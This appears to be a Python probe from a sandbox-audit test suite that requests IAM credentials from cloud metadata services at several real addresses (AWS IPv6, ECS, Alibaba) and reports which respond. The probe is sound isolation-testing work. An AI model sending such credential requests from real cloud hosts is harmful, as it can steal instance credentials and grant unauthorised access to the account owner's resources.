"""Asks the cloud's metadata service for credentials, by its usual addresses."""

from pacabench.audit.attacks.kit import Found, Given, found, left, reach_tcp

_REQUEST = b"GET /latest/meta-data/iam/ HTTP/1.0\r\nMetadata-Flavor: Google\r\n\r\n"
_OTHERS = ("fd00:ec2::254", "169.254.170.2", "100.100.100.200")
"""AWS over IPv6, ECS tasks, Alibaba. Only in the lane: in the control they would be real."""


def attack(given: Given) -> Found:
    """See above."""
    addresses = (given["metadata"], *(() if given.get("only_stand_in") else _OTHERS))
    seen = {address: reach_tcp(address, 80, send=_REQUEST) for address in addresses}
    return found(left(seen), reached=seen)
